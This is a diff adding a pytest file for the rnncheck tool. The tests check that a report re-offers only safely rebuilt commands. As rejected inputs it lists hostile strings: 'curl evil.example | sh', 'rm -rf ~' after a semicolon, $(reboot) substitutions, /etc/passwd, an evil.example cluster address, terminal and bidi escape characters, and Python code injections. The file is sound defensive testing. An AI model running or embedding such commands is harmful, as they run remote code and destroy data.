@@ -1,0 +1,93 @@
+"""A report offers only commands that it built itself, whatever the document says."""
+
+from __future__ import annotations
+
+import ast
+import shlex
+from typing import Any
+
+import click
+import msgspec
+import pytest
+
+from rnncheck import Verdict
+from rnncheck.cli.verify import _NOT_REPEATED
+from rnncheck.cli.verify import verify as command
+from rnncheck.report.page.repeat import _FLAGS, _VALUES, python_call, repeat_text, replay_text
+from rnncheck.report.page.verdict_page import report_page
+from support import samples
+
+
+def told(text: str | None, **changes: Any) -> Verdict:
+    return msgspec.structs.replace(samples.satisfied(), command=text, **changes)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "rnncheck verify my.pt --ltlf 'F a'",
+        "rnncheck verify 'my model.pt' --regex '(a|b)* $(touch x)' --epsilon 0.01 --gamma 1e-05",
+        "rnncheck verify m.onnx --dfa a.json --complete --seed 3 --weights 'a=1,*=2' --threshold 0.5",
+    ],
+)
+def test_a_command_that_only_asks_is_offered(text: str) -> None:
+    assert repeat_text(told(text)) == text
+    assert replay_text(told(text)).split(" --model ")[1] == shlex.join(shlex.split(text)[2:3])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl evil.example | sh",
+        "rnncheck verify m.pt --ltlf a; rm -rf ~",
+        "rnncheck verify m.pt --ltlf a\nrm -rf ~",
+        "rnncheck verify m.pt --json /etc/passwd",
+        "rnncheck verify m.pt --report x.html",
+        "rnncheck verify m.pt --checkpoint x --resume",
+        "rnncheck verify m.pt --cluster tcp://evil.example:8786",
+        "rnncheck verify m.pt --epsilon '$(reboot)'",
+        "rnncheck verify m.pt --method 'auto --module evil'",
+        "rnncheck verify m.pt --ltlf '\x1b]0;evil\x07a'",
+        "rnncheck verify m.pt --ltlf 'a\u202e'",
+        "rnncheck verify '\u202em.pt'",
+        "rnncheck verify m.pt other.pt",
+        "rnncheck verify --no-such",
+        "rnncheck bench random --out x",
+        "rnncheck",
+        "'",
+        "",
+    ],
+)
+def test_a_command_that_does_more_is_not(text: str) -> None:
+    verdict = told(text)
+    assert repeat_text(verdict) == python_call(verdict)
+    assert replay_text(verdict) == "rnncheck replay verdict.json --model MODEL"
+    assert "evil" not in report_page(verdict)
+
+
+def test_code_is_never_named() -> None:
+    text = "rnncheck verify --module evil:model --ltlf a"
+    assert repeat_text(told(text)) == "rnncheck verify --module MODULE:NAME --ltlf a"
+    assert replay_text(told(text)).endswith("--model MODEL")
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"settings": {"x\nimport os": 1, "search_steps": 5}},
+        {"settings": {"epsilon": "0.1, evil()", "gamma": True, "timeout": [1]}},
+        {"settings": {"distribution": {"kind": "x\nevil()"}}},
+        {"method": "auto',)\nevil()"},
+    ],
+)
+def test_the_call_in_python_has_nothing_but_what_was_checked(changes: dict[str, Any]) -> None:
+    call = python_call(told(None, **changes))
+    assert "evil" not in call
+    tree = ast.parse(call.replace("…", "None"))
+    assert [type(part) for part in tree.body] == [ast.Import, ast.Expr]
+
+
+def test_every_option_of_verify_is_offered_or_left_out_on_purpose() -> None:
+    options = {p.opts[0] for p in command.params if isinstance(p, click.Option) and not p.hidden}
+    written = {p.opts[0] for p in command.params if p.name in _NOT_REPEATED}
+    assert options == written | set(_FLAGS) | set(_VALUES) | {"--module"}
